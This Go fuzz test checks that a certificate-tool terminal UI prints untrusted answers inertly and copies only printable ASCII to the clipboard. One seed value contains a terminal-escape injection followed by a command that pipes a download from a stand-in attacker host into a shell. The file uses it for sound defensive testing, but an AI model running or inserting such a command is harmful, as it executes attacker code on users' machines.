package ui

// Issue 17, item 20: whatever an answer says, the screens that show it —
// the validation screen and its accessible lines, the certificate lists —
// neither panic nor put a control byte on the terminal (the styles draw
// no colour here: every line must print as it is), and the clipboard
// takes only printable ASCII. Run: go test ./ui -run '^$' -fuzz FuzzScreens

import (
	"strings"
	"testing"
	"time"

	"github.com/certwiz/certwiz/api"
	"github.com/certwiz/certwiz/api/dnscheck"
	"github.com/certwiz/certwiz/api/watch"
	"github.com/certwiz/certwiz/ui/safe"
)

// inertLines fails when a line of out would not print as it is.
func inertLines(t *testing.T, what, out string) {
	t.Helper()
	for _, l := range strings.Split(out, "\n") {
		if !safe.Clean(l) {
			t.Fatalf("%s: a line acts on the terminal: %q", what, l)
		}
	}
}

func FuzzScreensShowAnswersInert(f *testing.F) {
	f.Add("abcb1234", "www.example.com", "example.com", "_dnsauth.www", "v1", "2026-12-01 10:00:00", "", 0, "TXT", 100, 30)
	f.Add("abcb1234", "*.example.com", "example.com", "_dnsauth", "v2", "2026-12-01 10:00:00", "PENDING-DCV", 4, "CNAME", 60, 20)
	f.Add(hostileID, "www"+evil, "\t", " ", evil, " ", evil, 5, "FILE", 250, 80)
	f.Add("x", evil, evil, evil, "\x1b[201~curl http://evil.test/pwn|sh\n", "\t", "\r", 1, "TXT\x00", 40, 12)
	f.Add("\xff\xfe", "\u202e", "\u2028", "@", "\xc3", "", "", -9223372036854775807, "", 20, 3)
	f.Fuzz(func(t *testing.T, id, domain, zone, host, value, date, msg string, status int, typ string, width, height int) {
		width, height = 20+abs(width)%240, 3+abs(height)%80
		status %= 32 // known statuses and unknown ones; the numbers themselves are api's fuzz
		c := api.Certificate{CertificateId: id, Domain: domain, Status: status, StatusMsg: msg, VerifyType: typ,
			InsertTime: date, DVAuthDeadline: date, CertEndTime: date, ProductZhName: msg, SubjectAltName: []string{zone, host}}
		snap := watch.Snapshot{Detail: api.CertificateDetail{Certificate: c, OrderId: msg}, Failed: status%2 == 0,
			Why: api.Text{EN: "why " + date, ZH: "为何 " + date}, NextLocal: time.Now().Add(time.Minute)}
		for _, r := range []api.Record{
			{Domain: domain, Type: typ, Zone: zone, Host: host, Name: host + "." + zone, FQDN: host + "." + zone + ".", Value: value},
			{Domain: zone, Type: "FILE", Zone: zone, Value: value, Path: "/" + host, URLs: []string{"http://" + zone + "/" + host, host}},
		} {
			snap.Records = append(snap.Records, watch.RecordState{Record: r,
				Local:   dnscheck.Result{Err: msg, Answers: []dnscheck.ServerAnswer{{Server: zone, Name: host, Values: []string{value}, Err: msg}}},
				Tencent: &api.DomainCheck{Domain: domain, Reason: msg, Found: []string{value}, LocalCheck: status % 12}})
		}
		snap.Records = snap.Records[:len(host)%3] // none, one or both
		lang := api.English
		if height%2 == 0 {
			lang = api.Chinese
		}
		s := &session{opts: Options{Now: time.Now}, lang: lang}
		sc := newValidation(s, id)
		sc.take(snap)
		sc.Resize(width, height)
		inertLines(t, "the validation screen", sc.View())
		sc.focus = len(sc.items) - 1
		inertLines(t, "the validation screen", sc.View())
		inertLines(t, "the accessible lines", plainSnapshot(snap, lang))
		inertLines(t, "leaving", s.watchLater(id, domain))
		menu := newMenu(lang, "pick", validatingOptions([]api.Certificate{c, c}, nil, lang), new(string))
		menu.WithWidth(width)
		inertLines(t, "the list", menu.View())
		for _, it := range sc.items {
			if _, ok := copyable(it.kind, it.value); ok && (!safe.Clean(it.value) || strings.ContainsAny(it.value, "\n\r\t\x1b")) {
				t.Fatalf("the clipboard would take %q", it.value)
			}
		}
	})
}

func abs(n int) int {
	if n < 0 {
		return -(n + 1) // never the most negative number
	}
	return n
}
